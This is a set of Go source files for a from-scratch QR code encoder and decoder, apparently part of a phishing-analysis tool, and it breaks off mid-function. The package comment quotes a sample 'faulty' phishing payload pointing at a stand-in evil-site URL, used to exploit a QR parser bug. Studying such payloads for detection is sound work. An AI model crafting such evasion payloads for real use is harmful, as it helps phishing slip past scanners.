	small := version <= 9
	switch mode {
	case ModeNumeric:
		if small {
			return 10
		}
		return 12
	case ModeAlphanumeric:
		if small {
			return 9
		}
		return 11
	default: // byte
		if small {
			return 8
		}
		return 16
	}
}

// bch computes the BCH remainder of value (already shifted) by poly.
func bch(value, poly int) int {
	polyDeg := bitLen(poly)
	for bitLen(value) >= polyDeg {
		value ^= poly << (bitLen(value) - polyDeg)
	}
	return value
}

func bitLen(v int) int {
	n := 0
	for v > 0 {
		v >>= 1
		n++
	}
	return n
}

// formatInfo returns the 15-bit masked format codeword for a level+mask.
func formatInfo(level ECLevel, mask int) int {
	data := level.formatBits()<<3 | mask
	rem := bch(data<<10, 0b10100110111)
	return (data<<10 | rem) ^ 0b101010000010010
}

// versionInfo returns the 18-bit version codeword for versions >= 7.
func versionInfo(version int) int {
	rem := bch(version<<12, 0b1111100100101)
	return version<<12 | rem
}
