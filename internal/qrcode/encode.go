package qrcode

import (
	"fmt"
	"strings"
)

// Mode is a QR data-encoding mode.
type Mode int

// Supported encoding modes.
const (
	ModeNumeric Mode = iota + 1
	ModeAlphanumeric
	ModeByte
)

// String returns the mode name.
func (m Mode) String() string {
	switch m {
	case ModeNumeric:
		return "numeric"
	case ModeAlphanumeric:
		return "alphanumeric"
	case ModeByte:
		return "byte"
	default:
		return "unknown"
	}
}

func (m Mode) indicator() int {
	switch m {
	case ModeNumeric:
		return 0b0001
	case ModeAlphanumeric:
		return 0b0010
	default:
		return 0b0100
	}
}

const _alphanumericCharset = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ $%*+-./:"

// ChooseMode returns the densest mode capable of encoding payload.
func ChooseMode(payload string) Mode {
	numeric, alnum := true, true
	for _, r := range payload {
		if r < '0' || r > '9' {
			numeric = false
		}
		if !strings.ContainsRune(_alphanumericCharset, r) {
			alnum = false
		}
	}
	switch {
	case numeric && payload != "":
		return ModeNumeric
	case alnum:
		return ModeAlphanumeric
	default:
		return ModeByte
	}
}

// Matrix is a decoded or generated QR module grid. Modules[y*Size+x] is true
// for dark modules.
type Matrix struct {
	Version int
	Level   ECLevel
	Mask    int
	Size    int
	Modules []bool
}

// At returns the module at (x, y); out-of-range coordinates read as light.
func (m *Matrix) At(x, y int) bool {
	if x < 0 || x >= m.Size || y < 0 || y >= m.Size {
		return false
	}
	return m.Modules[y*m.Size+x]
}

func (m *Matrix) set(x, y int, v bool) {
	if x < 0 || x >= m.Size || y < 0 || y >= m.Size {
		return
	}
	m.Modules[y*m.Size+x] = v
}

// Clone returns a deep copy of the matrix.
func (m *Matrix) Clone() *Matrix {
	out := *m
	out.Modules = make([]bool, len(m.Modules))
	copy(out.Modules, m.Modules)
	return &out
}

// Encode builds a QR matrix for payload at the given EC level, choosing the
// smallest version that fits and the mask with the lowest penalty score.
func Encode(payload string, level ECLevel) (*Matrix, error) {
	if level < ECLow || level > ECHigh {
		return nil, fmt.Errorf("qrcode: invalid EC level %d", level)
	}
	mode := ChooseMode(payload)
	version := -1
	for v := 1; v <= MaxVersion; v++ {
		if segmentBits(mode, payload, v) <= ecSpec(v, level).DataCodewords()*8 {
			version = v
			break
		}
	}
	if version < 0 {
		return nil, fmt.Errorf("%w: %d bytes at level %s", ErrPayloadTooLarge, len(payload), level)
	}
	codewords, err := buildCodewords(mode, payload, version, level)
	if err != nil {
		return nil, err
	}
	return assembleMatrix(version, level, codewords), nil
}

// segmentBits returns the total bit length of a single-segment encoding.
func segmentBits(mode Mode, payload string, version int) int {
	header := 4 + charCountBits(mode, version)
	switch mode {
	case ModeNumeric:
		n := len(payload)
		bits := (n / 3) * 10
		switch n % 3 {
		case 1:
			bits += 4
		case 2:
			bits += 7
		}
		return header + bits
	case ModeAlphanumeric:
		n := len(payload)
		return header + (n/2)*11 + (n%2)*6
	default:
		return header + len(payload)*8
	}
}

// buildCodewords produces the fully interleaved data+EC codeword sequence.
func buildCodewords(mode Mode, payload string, version int, level ECLevel) ([]byte, error) {
	spec := ecSpec(version, level)
	capacityBits := spec.DataCodewords() * 8

	var w bitWriter
	w.writeBits(mode.indicator(), 4)
	switch mode {
	case ModeNumeric:
		w.writeBits(len(payload), charCountBits(mode, version))
		for i := 0; i < len(payload); i += 3 {
			end := min(i+3, len(payload))
			chunk := payload[i:end]
			v := 0
			for _, r := range chunk {
				v = v*10 + int(r-'0')
			}
			w.writeBits(v, []int{0, 4, 7, 10}[len(chunk)])
		}
	case ModeAlphanumeric:
		w.writeBits(len(payload), charCountBits(mode, version))
		for i := 0; i < len(payload); i += 2 {
			if i+1 < len(payload) {
				v := strings.IndexByte(_alphanumericCharset, payload[i])*45 +
					strings.IndexByte(_alphanumericCharset, payload[i+1])
				w.writeBits(v, 11)
			} else {
				w.writeBits(strings.IndexByte(_alphanumericCharset, payload[i]), 6)
			}
		}
	default:
		w.writeBits(len(payload), charCountBits(mode, version))
		for i := 0; i < len(payload); i++ {
			w.writeBits(int(payload[i]), 8)
		}
	}
	if w.len() > capacityBits {
		return nil, fmt.Errorf("%w: %d bits > %d capacity", ErrPayloadTooLarge, w.len(), capacityBits)
	}
	// Terminator (up to 4 zero bits), byte alignment, then pad codewords.
	term := min(4, capacityBits-w.len())
	w.writeBits(0, term)
	if w.len()%8 != 0 {
		w.writeBits(0, 8-w.len()%8)
	}
	data := w.bytes()
	for pad := 0; len(data) < spec.DataCodewords(); pad++ {
		if pad%2 == 0 {
			data = append(data, 0xEC)
		} else {
			data = append(data, 0x11)
		}
	}

	// Split into blocks, compute EC, and interleave.
	gf := newGFTables()
	var blocks [][]byte
	var ecBlocks [][]byte
	offset := 0
	for _, g := range spec.Groups {
		for b := 0; b < g.Num; b++ {
			block := data[offset : offset+g.Data]
			offset += g.Data
			blocks = append(blocks, block)
			ecBlocks = append(ecBlocks, gf.rsEncode(block, spec.ECPerBlock))
		}
	}
	var out []byte
	maxData := 0
	for _, b := range blocks {
		if len(b) > maxData {
			maxData = len(b)
		}
	}
	for i := 0; i < maxData; i++ {
		for _, b := range blocks {
			if i < len(b) {
				out = append(out, b[i])
			}
		}
	}
	for i := 0; i < spec.ECPerBlock; i++ {
		for _, b := range ecBlocks {
			out = append(out, b[i])
		}
	}
	return out, nil
}

// assembleMatrix places function patterns and data, then selects the best
// mask by penalty score.
func assembleMatrix(version int, level ECLevel, codewords []byte) *Matrix {
	size := matrixSize(version)
	base := &Matrix{Version: version, Level: level, Size: size, Modules: make([]bool, size*size)}
	function := make([]bool, size*size) // true where function patterns live
	placeFunctionPatterns(base, function, version)

	// Expand codewords to a bit sequence plus remainder zeros.
	totalBits := len(codewords)*8 + _remainderBits[version-1]
	bitsSeq := make([]bool, totalBits)
	for i := 0; i < len(codewords)*8; i++ {
		bitsSeq[i] = codewords[i/8]>>(uint(7-i%8))&1 == 1
	}
	placeData(base, function, bitsSeq)

	best := -1
	var bestMatrix *Matrix
	bestPenalty := 1 << 30
	for mask := 0; mask < 8; mask++ {
		cand := base.Clone()
		applyMask(cand, function, mask)
		writeFormatInfo(cand, level, mask)
		if version >= 7 {
			writeVersionInfo(cand, version)
		}
		p := penalty(cand)
		if p < bestPenalty {
			bestPenalty = p
			best = mask
			bestMatrix = cand
		}
	}
	bestMatrix.Mask = best
	return bestMatrix
}

// placeFunctionPatterns draws finders, separators, timing, alignment, the
// dark module, and reserves format/version areas.
func placeFunctionPatterns(m *Matrix, function []bool, version int) {
	size := m.Size
	markFn := func(x, y int) {
		if x >= 0 && x < size && y >= 0 && y < size {
			function[y*size+x] = true
		}
	}
	drawFinder := func(cx, cy int) {
		for dy := -4; dy <= 4; dy++ {
			for dx := -4; dx <= 4; dx++ {
				x, y := cx+dx, cy+dy
				if x < 0 || x >= size || y < 0 || y >= size {
					continue
				}
				markFn(x, y)
				dist := max(abs(dx), abs(dy))
				m.set(x, y, dist <= 3 && dist != 2) // rings: 3x3 core + 7x7 border
			}
		}
	}
	drawFinder(3, 3)
	drawFinder(size-4, 3)
	drawFinder(3, size-4)

	// Timing patterns.
	for i := 8; i < size-8; i++ {
		if !function[6*size+i] {
			markFn(i, 6)
			m.set(i, 6, i%2 == 0)
		}
		if !function[i*size+6] {
			markFn(6, i)
			m.set(6, i, i%2 == 0)
		}
	}

	// Alignment patterns.
	centers := _alignmentCenters[version-1]
	for _, cy := range centers {
		for _, cx := range centers {
			// Skip those overlapping finder patterns.
			if isFinderArea(cx, cy, size) {
				continue
			}
			for dy := -2; dy <= 2; dy++ {
				for dx := -2; dx <= 2; dx++ {
					x, y := cx+dx, cy+dy
					markFn(x, y)
					dist := max(abs(dx), abs(dy))
					m.set(x, y, dist != 1)
				}
			}
		}
	}

	// Reserve format info areas (the actual bits are written per mask).
	for i := 0; i < 9; i++ {
		markFn(i, 8)
		markFn(8, i)
	}
	for i := 0; i < 8; i++ {
		markFn(size-1-i, 8)
		markFn(8, size-1-i)
	}
	// Dark module.
	m.set(8, size-8, true)
	markFn(8, size-8)

	// Reserve version info areas.
	if version >= 7 {
		for i := 0; i < 6; i++ {
			for j := 0; j < 3; j++ {
				markFn(size-11+j, i)
				markFn(i, size-11+j)
			}
		}
	}
}

func isFinderArea(cx, cy, size int) bool {
	return (cx <= 8 && cy <= 8) || (cx >= size-9 && cy <= 8) || (cx <= 8 && cy >= size-9)
}

// placeData writes the bit sequence into non-function modules using the
// standard upward/downward two-column zigzag.
func placeData(m *Matrix, function []bool, bitsSeq []bool) {
	size := m.Size
	idx := 0
	upward := true
	for right := size - 1; right >= 1; right -= 2 {
		if right == 6 {
			right = 5 // skip the vertical timing column
		}
		for i := 0; i < size; i++ {
			y := i
			if upward {
				y = size - 1 - i
			}
			for _, x := range []int{right, right - 1} {
				if function[y*size+x] {
					continue
				}
				v := false
				if idx < len(bitsSeq) {
					v = bitsSeq[idx]
				}
				m.set(x, y, v)
				idx++
			}
		}
		upward = !upward
	}
}

// maskBit reports whether mask pattern `mask` inverts module (x, y).
func maskBit(mask, x, y int) bool {
	switch mask {
	case 0:
		return (x+y)%2 == 0
	case 1:
		return y%2 == 0
	case 2:
		return x%3 == 0
	case 3:
		return (x+y)%3 == 0
	case 4:
		return (y/2+x/3)%2 == 0
	case 5:
		return x*y%2+x*y%3 == 0
	case 6:
		return (x*y%2+x*y%3)%2 == 0
	default:
		return ((x+y)%2+x*y%3)%2 == 0
	}
}

func applyMask(m *Matrix, function []bool, mask int) {
	size := m.Size
	for y := 0; y < size; y++ {
		for x := 0; x < size; x++ {
			if !function[y*size+x] && maskBit(mask, x, y) {
				m.set(x, y, !m.At(x, y))
			}
		}
	}
}

// writeFormatInfo writes both copies of the 15-bit format codeword.
func writeFormatInfo(m *Matrix, level ECLevel, mask int) {
	bitsVal := formatInfo(level, mask)
	size := m.Size
	get := func(i int) bool { return bitsVal>>uint(14-i)&1 == 1 }
	// Copy 1: around the top-left finder.
	coordsA := [15][2]int{
		{8, 0}, {8, 1}, {8, 2}, {8, 3}, {8, 4}, {8, 5}, {8, 7}, {8, 8},
		{7, 8}, {5, 8}, {4, 8}, {3, 8}, {2, 8}, {1, 8}, {0, 8},
	}
	for i, c := range coordsA {
		m.set(c[0], c[1], get(i))
	}
	// Copy 2: split between bottom-left and top-right finders.
	for i := 0; i < 7; i++ {
		m.set(8, size-1-i, get(i))
	}
	for i := 7; i < 15; i++ {
		m.set(size-15+i, 8, get(i))
	}
}

// writeVersionInfo writes both copies of the 18-bit version codeword.
func writeVersionInfo(m *Matrix, version int) {
	v := versionInfo(version)
	size := m.Size
	for i := 0; i < 18; i++ {
		bit := v>>uint(i)&1 == 1
		x := i / 3
		y := size - 11 + i%3
		m.set(x, y, bit)
		m.set(y, x, bit)
	}
}

// penalty computes the four-rule mask penalty score from the standard.
func penalty(m *Matrix) int {
	size := m.Size
	score := 0
	// Rule 1: runs of 5+ same-color modules in rows and columns.
	for y := 0; y < size; y++ {
		score += runPenalty(func(i int) bool { return m.At(i, y) }, size)
		score += runPenalty(func(i int) bool { return m.At(y, i) }, size)
	}
	// Rule 2: 2x2 blocks of the same color.
	for y := 0; y < size-1; y++ {
		for x := 0; x < size-1; x++ {
			c := m.At(x, y)
			if m.At(x+1, y) == c && m.At(x, y+1) == c && m.At(x+1, y+1) == c {
				score += 3
			}
		}
	}
	// Rule 3: finder-like 1:1:3:1:1 patterns with 4-module light flank.
	pattern := []bool{true, false, true, true, true, false, true, false, false, false, false}
	for y := 0; y < size; y++ {
		for x := 0; x+len(pattern) <= size; x++ {
			fwd, rev := true, true
			for i, p := range pattern {
				if m.At(x+i, y) != p {
					fwd = false
				}
				if m.At(x+len(pattern)-1-i, y) != p {
					rev = false
				}
			}
			if fwd || rev {
				score += 40
			}
			fwd, rev = true, true
			for i, p := range pattern {
				if m.At(y, x+i) != p {
					fwd = false
				}
				if m.At(y, x+len(pattern)-1-i) != p {
					rev = false
				}
			}
			if fwd || rev {
				score += 40
			}
		}
	}
	// Rule 4: dark-module balance.
	dark := 0
	for _, v := range m.Modules {
		if v {
			dark++
		}
	}
	percent := dark * 100 / (size * size)
	k := abs(percent-50) / 5
	score += k * 10
	return score
}

func runPenalty(at func(int) bool, size int) int {
	score := 0
	run := 1
	for i := 1; i <= size; i++ {
		if i < size && at(i) == at(i-1) {
			run++
			continue
		}
		if run >= 5 {
			score += 3 + run - 5
		}
		run = 1
	}
	return score
}

func abs(v int) int {
	if v < 0 {
		return -v
	}
	return v
}
