package qrcode

import (
	"fmt"
	"math"
	"sort"

	"crawlerbox/internal/imaging"
)

// Render draws the matrix into an RGB image with the given module scale
// (pixels per module) and quiet-zone width (in modules).
func Render(m *Matrix, scale, quiet int) (*imaging.Image, error) {
	if scale <= 0 {
		return nil, fmt.Errorf("qrcode: scale must be positive, got %d", scale)
	}
	if quiet < 0 {
		quiet = 0
	}
	side := (m.Size + 2*quiet) * scale
	img, err := imaging.New(side, side, imaging.White)
	if err != nil {
		return nil, err
	}
	for y := 0; y < m.Size; y++ {
		for x := 0; x < m.Size; x++ {
			if !m.At(x, y) {
				continue
			}
			px := (x + quiet) * scale
			py := (y + quiet) * scale
			img.FillRect(px, py, px+scale, py+scale, imaging.Black)
		}
	}
	return img, nil
}

// DecodeImage locates an upright QR code in img via its finder patterns,
// samples the module grid, and decodes it. It tolerates moderate pixel noise
// thanks to per-module majority sampling and Reed-Solomon correction.
func DecodeImage(img *imaging.Image) (*Decoded, error) {
	// Reject malformed rasters up front: locate sizes its work buffers from
	// W and H and trusts Pix to match.
	if img == nil || img.W <= 0 || img.H <= 0 || len(img.Pix) != img.W*img.H {
		return nil, ErrNotFound
	}
	loc, err := locate(img)
	if err != nil {
		return nil, err
	}
	matrix, err := sample(img, loc)
	if err != nil {
		return nil, err
	}
	return DecodeMatrix(matrix)
}

// location describes a found QR grid inside an image.
type location struct {
	originX, originY float64 // top-left corner of module (0,0)
	module           float64 // module size in pixels
	size             int     // modules per side
}

type finderCandidate struct {
	sumX, sumY, sumModule float64
	n                     float64
}

func (f *finderCandidate) cx() float64     { return f.sumX / f.n }
func (f *finderCandidate) cy() float64     { return f.sumY / f.n }
func (f *finderCandidate) module() float64 { return f.sumModule / f.n }

// locate finds the three finder patterns of an upright QR code.
func locate(img *imaging.Image) (location, error) {
	dark := binarize(img)
	var candidates []*finderCandidate
	// Run buffers are reused across scan rows; rowRuns used to allocate a
	// fresh pair per row, which dominated the locator's allocation count.
	var runs, starts []int
	// Horizontal scan for 1:1:3:1:1 runs, confirmed vertically.
	for y := 0; y < img.H; y++ {
		runs, starts = rowRuns(dark, img.W, y, runs[:0], starts[:0])
		for i := 0; i+4 < len(runs); i++ {
			// Runs alternate colors; the pattern must start dark.
			if !dark[y*img.W+starts[i]] {
				continue
			}
			if !finderRatio(runs[i], runs[i+1], runs[i+2], runs[i+3], runs[i+4]) {
				continue
			}
			total := runs[i] + runs[i+1] + runs[i+2] + runs[i+3] + runs[i+4]
			cx := float64(starts[i]) + float64(total)/2
			module := float64(total) / 7
			if cy, ok := confirmVertical(dark, img.W, img.H, int(cx), y, module); ok {
				candidates = mergeCandidate(candidates, cx, cy, module)
			}
		}
	}
	if len(candidates) < 3 {
		return location{}, ErrNotFound
	}
	// Prefer candidates supported by many scan rows: true finders are
	// confirmed on every row crossing their core; data-region mimics are
	// confirmed on one or two.
	sort.Slice(candidates, func(i, j int) bool { return candidates[i].n > candidates[j].n })
	if len(candidates) > 12 {
		candidates = candidates[:12]
	}
	tl, tr, bl, ok := classifyFinders(candidates)
	if !ok {
		return location{}, ErrNotFound
	}
	module := (tl.module() + tr.module() + bl.module()) / 3
	span := ((tr.cx() - tl.cx()) + (bl.cy() - tl.cy())) / 2
	sizeF := span/module + 7
	size := int(math.Round((sizeF-17)/4))*4 + 17
	if size < 21 {
		return location{}, ErrNotFound
	}
	// Refine module size from the span and the now-known module count.
	module = span / float64(size-7)
	return location{
		originX: tl.cx() - 3.5*module,
		originY: tl.cy() - 3.5*module,
		module:  module,
		size:    size,
	}, nil
}

func binarize(img *imaging.Image) []bool {
	dark := make([]bool, img.W*img.H)
	// Direct pixel reads: Image.Gray routes every sample through a
	// bounds-checked At call, which this whole-image pass doesn't need.
	for i, c := range img.Pix {
		dark[i] = grayOf(c) < 128
	}
	return dark
}

// grayOf is the ITU-R BT.601 luma of one pixel, identical to
// imaging.Image.Gray for in-bounds coordinates.
func grayOf(c imaging.RGB) float64 {
	return 0.299*float64(c.R) + 0.587*float64(c.G) + 0.114*float64(c.B)
}

// rowRuns returns the run lengths and start offsets across row y, appending
// into the caller-provided buffers so scans can reuse them across rows.
func rowRuns(dark []bool, w, y int, runs, starts []int) ([]int, []int) {
	start := 0
	for x := 1; x <= w; x++ {
		if x < w && dark[y*w+x] == dark[y*w+x-1] {
			continue
		}
		runs = append(runs, x-start)
		starts = append(starts, start)
		start = x
	}
	return runs, starts
}

// finderRatio checks the 1:1:3:1:1 run ratio with 50% per-run tolerance.
func finderRatio(a, b, c, d, e int) bool {
	total := a + b + c + d + e
	if total < 7 {
		return false
	}
	unit := float64(total) / 7
	tol := unit / 2
	check := func(run int, want float64) bool {
		return math.Abs(float64(run)-want*unit) <= tol*want
	}
	return check(a, 1) && check(b, 1) && check(c, 3) && check(d, 1) && check(e, 1)
}

// confirmVertical verifies the finder ratio vertically through (x, y) and
// returns the refined center row.
func confirmVertical(dark []bool, w, h, x, y int, module float64) (float64, bool) {
	if x < 0 || x >= w {
		return 0, false
	}
	if !dark[y*w+x] {
		return 0, false
	}
	// Walk up and down through the expected dark-light-dark structure.
	top := y
	for top > 0 && dark[(top-1)*w+x] {
		top--
	}
	bot := y
	for bot < h-1 && dark[(bot+1)*w+x] {
		bot++
	}
	coreLen := float64(bot - top + 1)
	// The center row crosses the 3-module core.
	if math.Abs(coreLen-3*module) > 1.5*module {
		return 0, false
	}
	return (float64(top) + float64(bot)) / 2, true
}

// mergeCandidate merges near-duplicate finder detections, accumulating true
// means so repeated confirmations don't bias the center estimate.
func mergeCandidate(list []*finderCandidate, cx, cy, module float64) []*finderCandidate {
	for _, old := range list {
		if math.Abs(old.cx()-cx) < old.module()*2 && math.Abs(old.cy()-cy) < old.module()*2 {
			old.sumX += cx
			old.sumY += cy
			old.sumModule += module
			old.n++
			return list
		}
	}
	return append(list, &finderCandidate{sumX: cx, sumY: cy, sumModule: module, n: 1})
}

// classifyFinders picks the top-left, top-right and bottom-left patterns of
// an upright code: among all triples forming an axis-aligned right angle
// with consistent module sizes, the most symmetric one wins.
func classifyFinders(cands []*finderCandidate) (tl, tr, bl *finderCandidate, ok bool) {
	best := math.Inf(1)
	for i := 0; i < len(cands); i++ {
		for j := 0; j < len(cands); j++ {
			for k := 0; k < len(cands); k++ {
				if i == j || j == k || i == k {
					continue
				}
				a, b, c := cands[i], cands[j], cands[k]
				m := a.module()
				// Module sizes must agree.
				if math.Abs(b.module()-m) > m*0.3 || math.Abs(c.module()-m) > m*0.3 {
					continue
				}
				// a = top-left, b = top-right, c = bottom-left.
				rowSkew := math.Abs(a.cy() - b.cy())
				colSkew := math.Abs(a.cx() - c.cx())
				if rowSkew > m*2 || colSkew > m*2 {
					continue
				}
				if b.cx() < a.cx()+m*6 || c.cy() < a.cy()+m*6 {
					continue
				}
				spanX := b.cx() - a.cx()
				spanY := c.cy() - a.cy()
				asym := math.Abs(spanX - spanY)
				if asym > m*3 {
					continue
				}
				score := asym + rowSkew + colSkew
				if score < best {
					best = score
					tl, tr, bl, ok = a, b, c, true
				}
			}
		}
	}
	return tl, tr, bl, ok
}

// sample reads each module by majority vote over a small pixel neighborhood
// around its center.
func sample(img *imaging.Image, loc location) (*Matrix, error) {
	m := &Matrix{Size: loc.size, Modules: make([]bool, loc.size*loc.size)}
	for my := 0; my < loc.size; my++ {
		for mx := 0; mx < loc.size; mx++ {
			cx := loc.originX + (float64(mx)+0.5)*loc.module
			cy := loc.originY + (float64(my)+0.5)*loc.module
			if cx < 0 || cy < 0 || cx >= float64(img.W) || cy >= float64(img.H) {
				return nil, ErrNotFound
			}
			darkVotes, total := 0, 0
			r := int(math.Max(1, loc.module/4))
			// The neighborhood is bounds-clipped up front, so the inner
			// loop reads pixels directly instead of going through the
			// per-sample bounds checks of Image.Gray.
			x0, x1 := max(int(cx)-r, 0), min(int(cx)+r, img.W-1)
			y0, y1 := max(int(cy)-r, 0), min(int(cy)+r, img.H-1)
			for y := y0; y <= y1; y++ {
				row := img.Pix[y*img.W+x0 : y*img.W+x1+1]
				for _, c := range row {
					if grayOf(c) < 128 {
						darkVotes++
					}
				}
				total += len(row)
			}
			m.Modules[my*loc.size+mx] = total > 0 && darkVotes*2 > total
		}
	}
	return m, nil
}
