package qrcode

import "fmt"

// bitWriter accumulates a bit stream MSB-first.
type bitWriter struct {
	bits []bool
}

func (w *bitWriter) writeBits(value, count int) {
	for i := count - 1; i >= 0; i-- {
		w.bits = append(w.bits, value>>uint(i)&1 == 1)
	}
}

func (w *bitWriter) len() int {
	return len(w.bits)
}

// bytes packs the stream into bytes, zero-padding the final byte.
func (w *bitWriter) bytes() []byte {
	out := make([]byte, (len(w.bits)+7)/8)
	for i, b := range w.bits {
		if b {
			out[i/8] |= 1 << uint(7-i%8)
		}
	}
	return out
}

// bitReader consumes a bit stream MSB-first.
type bitReader struct {
	data []byte
	pos  int // bit position
}

func (r *bitReader) remaining() int {
	return len(r.data)*8 - r.pos
}

func (r *bitReader) readBits(count int) (int, error) {
	if count > r.remaining() {
		return 0, fmt.Errorf("qrcode: bit stream underrun: need %d bits, have %d", count, r.remaining())
	}
	var v int
	for i := 0; i < count; i++ {
		byteIdx := r.pos / 8
		bitIdx := uint(7 - r.pos%8)
		v = v<<1 | int(r.data[byteIdx]>>bitIdx&1)
		r.pos++
	}
	return v, nil
}
