// Package qrcode implements QR code generation and decoding from scratch:
// segment encoding (numeric, alphanumeric, byte modes), Reed-Solomon error
// correction over GF(256), matrix construction with all eight mask patterns
// and penalty-based selection, format/version BCH codes, and two decoders —
// one from a module matrix and one from a rendered raster image via
// finder-pattern location.
//
// The paper's corpus embeds phishing URLs in QR codes (35 messages exploit a
// parser bug using deliberately "faulty" payloads such as
// "xxx https://evil-site.com/"); this package provides the codec both for
// generating that corpus and for CrawlerBox's extraction path.
package qrcode

// GF(256) arithmetic with the QR polynomial x^8 + x^4 + x^3 + x^2 + 1
// (0x11D) and generator alpha = 2.

const (
	_gfPoly  = 0x11D
	_gfOrder = 256
)

type gfTables struct {
	exp [2 * _gfOrder]byte
	log [_gfOrder]int
}

// newGFTables builds the exponent/log tables once per use site. The tables
// are tiny; recomputing avoids package-level mutable state.
func newGFTables() *gfTables {
	t := &gfTables{}
	x := 1
	for i := 0; i < _gfOrder-1; i++ {
		t.exp[i] = byte(x)
		t.log[x] = i
		x <<= 1
		if x&0x100 != 0 {
			x ^= _gfPoly
		}
	}
	for i := _gfOrder - 1; i < 2*_gfOrder; i++ {
		t.exp[i] = t.exp[i-(_gfOrder-1)]
	}
	return t
}

func (t *gfTables) mul(a, b byte) byte {
	if a == 0 || b == 0 {
		return 0
	}
	return t.exp[t.log[a]+t.log[b]]
}

func (t *gfTables) div(a, b byte) byte {
	if b == 0 {
		panic("qrcode: GF division by zero")
	}
	if a == 0 {
		return 0
	}
	return t.exp[t.log[a]+_gfOrder-1-t.log[b]]
}

func (t *gfTables) pow(base byte, e int) byte {
	if base == 0 {
		return 0
	}
	idx := (t.log[base] * e) % (_gfOrder - 1)
	if idx < 0 {
		idx += _gfOrder - 1
	}
	return t.exp[idx]
}

func (t *gfTables) inv(a byte) byte {
	return t.div(1, a)
}

// polyMul multiplies two polynomials (index 0 = highest-degree coefficient).
func (t *gfTables) polyMul(p, q []byte) []byte {
	out := make([]byte, len(p)+len(q)-1)
	for i, pc := range p {
		if pc == 0 {
			continue
		}
		for j, qc := range q {
			out[i+j] ^= t.mul(pc, qc)
		}
	}
	return out
}

// polyEval evaluates a polynomial (index 0 = highest degree) at x.
func (t *gfTables) polyEval(p []byte, x byte) byte {
	var y byte
	for _, c := range p {
		y = t.mul(y, x) ^ c
	}
	return y
}

// rsGenerator returns the Reed-Solomon generator polynomial of the given
// degree: prod_{i=0}^{deg-1} (x - alpha^i).
func (t *gfTables) rsGenerator(degree int) []byte {
	gen := []byte{1}
	for i := 0; i < degree; i++ {
		gen = t.polyMul(gen, []byte{1, t.pow(2, i)})
	}
	return gen
}

// rsEncode returns the ecLen error-correction codewords for data.
func (t *gfTables) rsEncode(data []byte, ecLen int) []byte {
	gen := t.rsGenerator(ecLen)
	rem := make([]byte, len(data)+ecLen)
	copy(rem, data)
	for i := 0; i < len(data); i++ {
		coef := rem[i]
		if coef == 0 {
			continue
		}
		for j := 1; j < len(gen); j++ {
			rem[i+j] ^= t.mul(gen[j], coef)
		}
	}
	return rem[len(data):]
}

// rsDecode corrects up to ecLen/2 byte errors in-place in msg (data followed
// by EC codewords). It returns the number of corrected errors, or an error
// when the codeword is uncorrectable.
func (t *gfTables) rsDecode(msg []byte, ecLen int) (int, error) {
	synd := make([]byte, ecLen)
	clean := true
	for i := range synd {
		synd[i] = t.polyEval(msg, t.pow(2, i))
		if synd[i] != 0 {
			clean = false
		}
	}
	if clean {
		return 0, nil
	}
	// Berlekamp-Massey (Massey's formulation) finds the error locator
	// polynomial sigma, stored low-degree-first, with L tracked explicitly.
	sigma := []byte{1} // C(x)
	prev := []byte{1}  // B(x)
	L := 0
	m := 1
	b := byte(1)
	for n := 0; n < ecLen; n++ {
		d := synd[n]
		for i := 1; i <= L && i < len(sigma); i++ {
			if n-i >= 0 {
				d ^= t.mul(sigma[i], synd[n-i])
			}
		}
		if d == 0 {
			m++
			continue
		}
		coef := t.mul(d, t.inv(b))
		if 2*L <= n {
			old := make([]byte, len(sigma))
			copy(old, sigma)
			sigma = polyAddShifted(t, sigma, prev, coef, m)
			L = n + 1 - L
			prev = old
			b = d
			m = 1
		} else {
			sigma = polyAddShifted(t, sigma, prev, coef, m)
			m++
		}
	}
	numErrors := L
	if numErrors*2 > ecLen {
		return 0, errUncorrectable
	}
	// Chien search: sigma's roots are the inverse locators X_i^-1, where
	// position i (from the left) has locator X_i = alpha^(n-1-i).
	var errPos []int
	n := len(msg)
	for i := 0; i < n; i++ {
		xinv := t.inv(t.pow(2, n-1-i))
		var v byte
		for j := len(sigma) - 1; j >= 0; j-- {
			v = t.mul(v, xinv) ^ sigma[j]
		}
		if v == 0 {
			errPos = append(errPos, i)
		}
	}
	if len(errPos) != numErrors {
		return 0, errUncorrectable
	}
	// Forney algorithm: error magnitudes.
	// Omega(x) = [S(x) * sigma(x)] mod x^ecLen, with S low-degree-first.
	omega := make([]byte, ecLen)
	for i := 0; i < ecLen; i++ {
		var v byte
		for j := 0; j <= i && j < len(sigma); j++ {
			v ^= t.mul(sigma[j], synd[i-j])
		}
		omega[i] = v
	}
	for _, pos := range errPos {
		xi := t.pow(2, n-1-pos) // X_i
		xiInv := t.inv(xi)      // X_i^-1
		var num byte            // Omega(X_i^-1)
		for j := len(omega) - 1; j >= 0; j-- {
			num = t.mul(num, xiInv) ^ omega[j]
		}
		// sigma'(X_i^-1): derivative keeps odd-degree terms.
		var den byte
		for j := 1; j < len(sigma); j += 2 {
			den ^= t.mul(sigma[j], t.powByte(xiInv, j-1))
		}
		if den == 0 {
			return 0, errUncorrectable
		}
		mag := t.mul(xi, t.div(num, den))
		msg[pos] ^= mag
	}
	// Verify: all syndromes must now vanish.
	for i := 0; i < ecLen; i++ {
		if t.polyEval(msg, t.pow(2, i)) != 0 {
			return 0, errUncorrectable
		}
	}
	return numErrors, nil
}

func (t *gfTables) powByte(base byte, e int) byte {
	if e == 0 {
		return 1
	}
	return t.pow(base, e)
}

// polyAddShifted returns sigma + coef * prev * x^shift (low-degree-first).
func polyAddShifted(t *gfTables, sigma, prev []byte, coef byte, shift int) []byte {
	size := len(sigma)
	if len(prev)+shift > size {
		size = len(prev) + shift
	}
	out := make([]byte, size)
	copy(out, sigma)
	for i, c := range prev {
		out[i+shift] ^= t.mul(coef, c)
	}
	// Trim trailing zeros to keep degree honest.
	for len(out) > 1 && out[len(out)-1] == 0 {
		out = out[:len(out)-1]
	}
	return out
}
