package qrcode

import (
	"fmt"
	"math/bits"
)

// Decoded is the result of decoding a QR matrix.
type Decoded struct {
	Payload   string
	Version   int
	Level     ECLevel
	Mask      int
	Corrected int // Reed-Solomon byte corrections applied
}

// DecodeMatrix decodes a QR module matrix, applying Reed-Solomon error
// correction as needed.
func DecodeMatrix(m *Matrix) (*Decoded, error) {
	size := m.Size
	if size < 21 || (size-17)%4 != 0 {
		return nil, fmt.Errorf("qrcode: invalid matrix size %d", size)
	}
	// At and set guard coordinates against Size, so a Modules slice that
	// disagrees with Size*Size would still index out of range.
	if len(m.Modules) != size*size {
